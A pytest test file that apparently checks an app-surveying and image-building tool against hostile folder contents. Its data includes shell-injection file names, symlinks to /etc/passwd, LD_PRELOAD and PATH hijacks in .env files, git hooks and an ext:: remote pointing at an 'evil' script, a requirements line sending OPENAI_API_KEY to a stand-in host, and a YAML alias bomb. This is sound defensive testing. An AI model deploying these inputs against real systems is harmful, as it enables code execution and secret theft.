"""An app whose folder is against whoever reads it. Real files; what is outside must stay unread."""

import json
import os
import subprocess
import sys
import tempfile
import time
from itertools import pairwise
from pathlib import Path

import pytest
import yaml

from scripts.app import environment, fit, reach, resolve
from scripts.app.survey import backend, read
from scripts.app.survey.tree import read_env, read_tree, walk
from scripts.app.survey.variables import Variable, kind, merged
from scripts.images import frontend
from scripts.images.context import content_tag, context_files, stage
from scripts.images.plans import Plan
from scripts.machine.engine import Engine
from scripts.release import dev
from scripts.session import answers, settings
from scripts.session.findings import Failure
from scripts.session.settings import ROOT, Settings

WATCHED = Path(__file__).with_name("watched.py")
CANARY = "canary-of-somebody-else"
USUAL = {
    "frontend/package.json": '{"dependencies": {"next": "14.2.35"}}',
    "frontend/app/page.tsx": "export default () => null\n",
    "requirements.txt": "fastapi\n",
    "app/__init__.py": "",
    "app/main.py": "app = FastAPI()\n@app.get('/health')\ndef health(): ...\n",
}


@pytest.fixture
def app(tmp_path):
    """A folder with an app of the usual shape; arguments replace files or add some."""

    def make(files=None):
        root = tmp_path / "app"
        for name, content in {**USUAL, **(files or {})}.items():
            path = root / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return root

    return make


@pytest.fixture
def watched(tmp_path):
    """Read an app in a process of its own: what it opened outside of the folder, and started."""

    def look(root):
        done = subprocess.run(
            [sys.executable, str(WATCHED), str(root), str(tmp_path / "cache")],
            cwd=ROOT, capture_output=True, text=True, timeout=50,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        seen = json.loads(done.stdout)
        ours = (root, tmp_path / "cache", ROOT, Path(sys.prefix), Path(sys.base_prefix))
        seen["outside"] = [
            one
            for one in seen["opened"]
            if not one.endswith(".pyc")
            and not any(Path(one).is_relative_to(os.path.realpath(place)) for place in ours)
        ]
        return seen

    return look


def _tag(root, run):
    docker = ROOT / "backend.Dockerfile"
    files = context_files(docker, root)
    stage(files, root.parent / "staged")
    return content_tag(run, Engine("docker", "1", "/", "overlay2", 1, 1), docker, files, {})


def test_names_that_a_shell_a_terminal_or_an_option_would_take_for_more(app, make_run, watched):
    names = ["a\nb.py", "$(touch x).py", "`touch x`.py", "--output=x.py", "-rf", "'\".py",
             "\x1b[31mred.py", "a b/main.py", "$(touch x)/main.py", "%s{0}.py", "...",
             "é.py"]  # fmt: skip
    root = app({name: "from fastapi import FastAPI\napp = FastAPI()\n" for name in names})
    Path(os.fsdecode(os.fsencode(root) + b"/\xff\xfe.py")).write_text("x = 1\n")
    seen = watched(root)
    assert (seen["why"], seen["outside"], seen["started"]) == ("", [], [])
    assert not list(root.rglob("x")) and not Path("x").exists()
    found = read(root, "postgres")
    assert found.backend.module == "app.main:app"
    assert all(one.isprintable() for one in read_tree(root).names)
    assert all(one.evidence.place.isprintable() for one in found.backend.candidates)
    assert len(_tag(root, make_run())) == 16


def test_links_that_lead_out_are_not_read_and_those_within_are(app, tmp_path, watched):
    outside = tmp_path / "outside"
    outside.mkdir()
    for name in ("secret.py", "secret.ts", "requirements.txt", ".env", "package.json", "uv.lock"):
        (outside / name).write_text(f"KEY = '{CANARY}'\nAPI_KEY={CANARY}\n")
    root = app({"app/use.py": "import os\nos.environ['API_KEY']\n", "app/main.py":
                "import app.use\napp = FastAPI()\n", "requirements.txt":
                "fastapi\n-r ../outside/requirements.txt\n-r linked.txt\n"
                "-r /etc/passwd\n"})  # fmt: skip
    os.mkfifo(root / "app/pipe.py")
    for name, target in {
        "app/secret.py": outside / "secret.py",
        "app/passwd.py": "/etc/passwd",
        "app/zero.py": "/dev/zero",
        "app/fifo.py": root / "app/pipe.py",
        "app/loop.py": root / "app/loop.py",
        "app/gone.py": "/nowhere/at/all.py",
        "shared": outside,
        "round": root,
        ".env": outside / ".env",
        "linked.txt": outside / "requirements.txt",
        "uv.lock": outside / "uv.lock",
        "frontend/secret.ts": outside / "secret.ts",
        "frontend/public": "/etc",
        "frontend/package-lock.json": outside / "package.json",
        "app/within.py": root / "app/use.py",
    }.items():
        (root / name).symlink_to(target)
    seen = watched(root)
    assert (seen["why"], seen["outside"], seen["started"]) == ("", [], [])
    assert CANARY not in seen["told"] and "root:" not in seen["told"]
    names = read_tree(root).names
    assert "app/within.py" in names
    assert not {"app/secret.py", "app/passwd.py", "app/zero.py", "app/pipe.py", ".env"} & names
    notes = []
    assert resolve._requirements(read(root, "postgres"), notes) == ["fastapi", "uvicorn"]
    assert "/etc/passwd is no file of the app's folder: left out" in notes


def test_the_dev_loop_sends_no_file_of_somebody_else(app, tmp_path):
    root = app()
    (tmp_path / "secret.py").write_text(CANARY)
    (root / "app/secret.py").symlink_to(tmp_path / "secret.py")
    plan = Plan("a", "a:1", "", ROOT / "backend.Dockerfile", root, (), {}, 1, "/", within=root)
    packed, gone = dev.pack(plan, ["app/main.py", "app/secret.py"])
    assert gone == ["app/secret.py"]
    assert CANARY.encode() not in packed and b"FastAPI" in packed


@pytest.mark.parametrize("name", ["app/main.py", "frontend/package.json"])
def test_a_file_of_ten_gigabytes_is_named_before_it_is_read(app, name):
    root = app()
    with (root / name).open("wb") as huge:
        huge.truncate(10 << 30)
    began = time.process_time()
    with pytest.raises(Failure) as caught:
        read(root)
    assert caught.value.findings[0].code == "APP-INCOMPLETE"
    with pytest.raises(Failure) as caught:
        context_files(ROOT / "frontend.Dockerfile", root)
    assert caught.value.findings[0].subject.endswith(name)
    assert time.process_time() - began < 5


def test_folders_in_each_other_without_end(app, make_run):
    root = app()
    here = os.getcwd()
    try:
        os.chdir(root)
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
        Path("deep.py").write_text("x = 1\n")
    finally:
        os.chdir(here)
    assert read(root, "postgres").backend.module == "app.main:app"
    assert _tag(root, make_run())
    subprocess.run(["rm", "-rf", str(root / "d")], check=True)  # shutil calls itself for each


def test_many_files_are_read_in_the_time_that_a_person_waits():
    """5 000 here; `nox -s fuzz` has 200 000."""
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)
        for name, content in USUAL.items():
            (root / name).parent.mkdir(parents=True, exist_ok=True)
            (root / name).write_text(content)
        for number in range(5_000):
            if not number % 1000:
                (root / f"f{number}").mkdir()
            (root / f"f{number // 1000 * 1000}" / f"{number}.py").write_bytes(b"x = 1\n")
        began = time.process_time()
        assert read(root, "postgres").backend.module == "app.main:app"
        assert len(context_files(ROOT / "backend.Dockerfile", root)) > 5_000
        assert time.process_time() - began < 20


@pytest.mark.skipif(os.geteuid() != 0, reason="needs another user")
def test_what_may_not_be_read_is_left_out(app):
    root = app({"closed/a.py": "x = 1\n", "app/closed.py": "x = 1\n"})
    for path in (root, *root.parents):
        if path.owner() == "root" and str(path).startswith(tempfile.gettempdir() + "/"):
            path.chmod(0o755)
    (root / "closed").chmod(0)
    (root / "app/closed.py").chmod(0)
    os.seteuid(65534)
    try:
        try:
            (root / "app/main.py").read_bytes()
        except PermissionError:
            pytest.skip("the folder above cannot be entered by others")
        assert read(root, "postgres").backend.module == "app.main:app"
        names = {one.name for one in context_files(ROOT / "backend.Dockerfile", root)}
        assert "app/main.py" in names and "app/closed.py" not in names
    finally:
        os.seteuid(0)


def test_an_env_file_steers_neither_this_machine_nor_an_interpreter(app, make_run, monkeypatch):
    names = ("PATH", "LD_PRELOAD", "PYTHONPATH", "HOME", "DOCKER_HOST", "KUBECONFIG",
             "NODE_OPTIONS", "BASH_ENV", "DYLD_INSERT_LIBRARIES")  # fmt: skip
    reads = "".join(f"os.environ['{name}']\n" for name in (*names, "PLAIN"))
    text = "".join(f"{name}=/evil\n" for name in (*names, "PLAIN"))
    root = app({"app/main.py": f"import os\n{reads}app = FastAPI()\n", ".env": text,
                "frontend/.env": text, "frontend/lib/x.ts":
                "".join(f"process.env.{name}!\n" for name in names)})  # fmt: skip
    run = make_run()
    before = (dict(os.environ), run.shell.env())
    given = environment.gather(run, read(root, "postgres"))
    assert given.environment.plain == {"PLAIN": "/evil"}
    assert not set(names) & set(given.environment.frontend_plain)
    assert (dict(os.environ), run.shell.env()) == before
    assert not {one.name for one in read(root, "postgres").backend.variables} & set(names)


def test_names_that_no_environment_can_hold_are_no_variables():
    found = [Variable(name, "a:1") for name in ("A\nB", "a b", "", "9A", "A-B", "A" * 300, "OK_1")]
    assert [one.name for one in merged(found)] == ["OK_1"]
    assert kind("DATABASE" * 5_000) == "provider"  # in no time, and not shown


def test_a_compose_file_is_named_and_never_followed(app, watched):
    text = "services:\n  x:\n    image: a\n    privileged: true\n    volumes: ['/:/host']\n"
    root = app({"docker-compose.yml": text})
    seen = watched(root)
    assert (seen["why"], seen["outside"], seen["started"]) == ("", [], [])
    assert read(root, "postgres").containers == ("docker-compose.yml",)


def test_what_an_installation_would_run_is_run_in_the_build_only(app, watched):
    package = {
        "scripts": {"preinstall": "touch x", "prepare": "touch x", "build": "touch x"},
        "dependencies": {"next": "14.2.35"},
    }
    root = app({"frontend/package.json": json.dumps(package), "setup.py": "open('x', 'w')\n",
                "frontend/next.config.js": "require('fs').writeFileSync('x', '')\n",
                "conftest.py": "open('x', 'w')\n"})  # fmt: skip
    seen = watched(root)
    assert (seen["why"], seen["outside"], seen["started"]) == ("", [], [])
    assert not list(root.rglob("x"))
    files = context_files(ROOT / "frontend.Dockerfile", root / "frontend")
    given = {one.name for one in frontend.lay_out(files, {}, reach.Reach(root / "frontend"))}
    assert "manifests/next.config.js" in given  # `npm ci` has what its hooks ask for, in there


def test_a_repositorys_own_configuration_starts_nothing(app, make_run, tmp_path):
    """Git would: to look at files, to filter them, to check a signature, to fetch what is gone."""
    root = app({".gitattributes": "* filter=evil\n"})
    evil = tmp_path / "evil"
    evil.write_text(f"#!/bin/sh\ntouch {tmp_path}/ran-$(basename $0)\ncat\n")
    evil.chmod(0o755)

    def git(*words):
        identity = ("-c", "user.name=a", "-c", "user.email=a@example.org")
        subprocess.run(["git", *identity, *words], cwd=root, check=True, capture_output=True)

    git("init", "-q")
    git("add", ".")
    git("commit", "-qm", "x")
    for name in ("core.fsmonitor", "gpg.program", "filter.evil.clean", "filter.evil.process",
                 "core.pager", "core.sshCommand"):  # fmt: skip
        git("config", name, str(evil))
    git("config", "log.showSignature", "true")
    git("config", "remote.origin.url", f"ext::{evil}")
    git("config", "remote.origin.promisor", "true")
    git("config", "protocol.ext.allow", "always")
    os.utime(root / "requirements.txt", (1, 1))
    run = make_run()
    found = read(root, "postgres")
    assert resolve._last_commit(run, found).startswith("20")
    assert not list(tmp_path.glob("ran-*"))
    (root / "requirements.txt").write_text("fastapi\nhttpx\n")
    assert resolve._last_commit(run, found) == ""
    for blob in (root / ".git/objects").rglob("*"):
        if blob.is_file():
            blob.unlink()
    assert resolve._last_commit(run, found) == ""
    assert not list(tmp_path.glob("ran-*"))


def test_a_list_of_packages_asks_for_nothing_of_this_machine(app):
    lines = ["evil @ https://x.example/${OPENAI_API_KEY}.whl", "-e .", "--index-url http://x",
             "vendor/evil.tar.gz", "evil @ file:///tmp/x", "evil @ ./x", ".", "git+file:///x",
             "-r requirements.txt", "git+https://x.example/a/b", "fastapi"]  # fmt: skip
    root = app({"requirements.txt": "\n".join(lines)})
    notes = []
    kept = resolve._requirements(read(root, "postgres"), notes)
    assert kept == ["fastapi", "uvicorn"]
    assert any("asks for a variable of this machine" in one for one in notes)
    assert any("does not say its name" in one for one in notes)


def test_no_set_up_program_that_the_apps_list_leads_to_is_run_here(make_run):
    run, asked = make_run(), []
    run.shell.run = lambda *argv, **_: asked.append(argv)
    wanted = ["evil @ git+https://x.example/a", "b[c] @ https://x.example/b.tar.gz", "fastapi"]
    resolve._compile(run, wanted, [], "3.13", False, "")
    assert [two for one, two in pairwise(asked[0]) if one == "--only-binary"] == ["evil", "b"]
    resolve._compile(run, wanted, [], "3.13", True, "")
    assert [two for one, two in pairwise(asked[1]) if one == "--only-binary"] == [":all:"]


def test_a_requirement_of_several_lines_is_one():
    text = '[project]\ndependencies = ["fastapi\\n--index-url http://x", "-r /etc/passwd", 1]\n'
    assert backend._project_dependencies(text) == (["fastapi --index-url http://x"], "")


@pytest.mark.parametrize(
    "text",
    [
        "project = 1",
        "[project]\ndependencies = 1",
        "[tool]\npoetry = []",
        '[tool.poetry.dependencies]\na = "^"\nb = {extras = 1}\nc = {version = 1}\n',
        "a = " + "[" * 5000,
        "a = " + "9" * 5000,
        "a." * 30_000,
    ],
)
def test_a_pyproject_of_the_wrong_shape_lists_what_can_be_read(text):
    began = time.process_time()
    assert isinstance(backend._project_dependencies(text)[0], list)
    assert time.process_time() - began < 1


@pytest.mark.parametrize(
    "given",
    ["null", "[]", "1", '{"packages": null}', '["/", "a**", "../x", "x/../../y", 1, "\\u0000"]'],
)
def test_workspaces_of_the_wrong_shape_have_no_members(app, given):
    root = app({"package.json": f'{{"workspaces": {given}}}', "pnpm-workspace.yaml": b"\xff- a\n"})
    (root / ".git").mkdir()
    assert reach.reach(root, "frontend").root == root / "frontend"


def test_a_home_folder_that_is_a_repository_keeps_its_hidden_files(app, tmp_path):
    (tmp_path / ".git").mkdir()
    (tmp_path / ".config").mkdir()
    (tmp_path / ".config/keys.json").write_text(f'{{"a": "{CANARY}"}}')
    root = app({"frontend/lib/x.ts": "import a from '../../../.config/keys.json'\n"})
    reached = reach.reach(root, "frontend")
    assert not any(CANARY.encode() in one.content for one in frontend._others(reached))


SLOW = ["'/a", '"${', "from " + " " * 9000, "import(", "a.", "\n", "\r", " ", "DATABASE", "[",
        "process.env.A||\"", "os.getenv('DATABASE", "http://localhost:",
        "app = FastAPI()\n"]  # fmt: skip


@pytest.mark.parametrize("piece", SLOW, ids=repr)
def test_no_text_takes_time_with_the_square_of_its_length(app, piece):
    text = "\n" + piece * ((1 << 16) // len(piece))
    names = ("app/more.py", "frontend/lib/x.ts", ".env", "pyproject.toml", "pnpm-workspace.yaml",
             "Dockerfile", "alembic.ini", "frontend/tsconfig.json")  # fmt: skip
    main = "import app.more\napp = FastAPI()\n"
    root = app({**dict.fromkeys(names, text), "app/main.py": main})
    (root / ".git").mkdir()
    began = time.process_time()
    found = read(root, "postgres")
    reach.reach(root, found.frontend.folder)
    fit.environment(found, Settings(), {"A": text})
    assert time.process_time() - began < 8


NESTED = ["x = " + "(" * 900 + ")" * 900, "x = " + "-" * 5_000 + "1", "x = " + "1+" * 2000 + "1",
          "x = a" + ".b" * 900, "if a: pass\n" + "elif a: pass\n" * 2000,
          "x = " + "lambda: " * 900 + "1"]  # fmt: skip


@pytest.mark.parametrize("text", NESTED, ids=[one[:12] for one in NESTED])
def test_source_that_is_nested_too_deep_is_no_python(app, text):
    root = app({"app/more.py": text, "app/main.py": "import app.more\napp = FastAPI()\n"})
    found = read(root, "postgres")
    assert [one.split(":")[0] for one in found.backend.broken] == ["app/more.py"]
    assert found.backend.broken[0].partition(": ")[2]


def test_lines_that_would_steer_a_terminal_are_shown_without_that(app):
    root = app({"app/main.py": "app = FastAPI()  # \x1b]0;owned\x07\n"})
    assert read(root, "postgres").backend.evidence.line.isprintable()


def test_addresses_with_a_password_are_no_examples(app):
    root = app({"app/main.py": "import os\nos.environ['CACHE']\napp = FastAPI()\n",
                ".env": f"CACHE=redis://:{CANARY}@example.org/0\nPLACE=http://[::1\n"})  # fmt: skip
    found = read(root, "postgres")
    assert dict(found.examples) == {"PLACE": "http://[::1"}
    assert CANARY not in repr(fit.trial_of_backend(found, Settings()))


def test_the_file_beside_an_app_cannot_mean_more_than_it_says(app):
    bomb = "a: &a [x, x]\n" + "".join(
        f"{new}: &{new} [*{old}, *{old}, *{old}]\n"
        for old, new in zip("abcdefghi", "bcdefghij", strict=True)
    )
    for text in (
        bomb,
        "database: 2001-99-99",
        "[" * 5000,
        "x: " + "9" * 5000,
        "- 1",
        b"\xff\xfe\0",
    ):
        root = app({settings.BESIDE: text})
        with pytest.raises(Failure) as caught:
            Settings.load({}, str(root))
        assert len(caught.value.findings[0].evidence) < 1000


def test_env_files_in_any_shape_are_read():
    assert read_env("export A='b' # c\r\n=x\nB\nC=\n") == {"A": "b", "": "x", "C": ""}
    began = time.process_time()
    read_env("A=b" + " " * 200_000 + "c")
    assert time.process_time() - began < 1


def test_the_walk_says_each_folder_once_whatever_links_there_are(tmp_path):
    (tmp_path / "a/b").mkdir(parents=True)
    (tmp_path / "a/b/up").symlink_to(tmp_path)
    (tmp_path / "a/x").write_text("")
    assert [folder for folder, _, _ in walk(tmp_path)] == ["", "a", "a/b"]


def test_an_answer_of_another_form_is_a_failure_with_its_place():
    assert answers.read('{"a": null, "b": [{"c": null}]}', "kubectl") == {"b": [{}]}
    for text in ("", "{", "[" * 100_000):
        with pytest.raises(Failure) as caught:
            answers.read(text, "kubectl")
        assert caught.value.findings[0].code == "COMMAND-FAILED"
    with pytest.raises(Failure) as caught, answers.understood("helm"):
        {}["revision"]
    assert "test_hostile.py" in caught.value.findings[0].evidence


@pytest.mark.parametrize("text", ["[" * 60_000, "- " * 60_000, '{"a":' * 40_000, "[", "a: *b"])
def test_yaml_without_end_does_not_end_the_process(text):
    assert answers.documents("a: 1\n---\nb: [1]\n") == [{"a": 1}, {"b": [1]}]
    with pytest.raises(yaml.YAMLError):
        answers.documents(text)
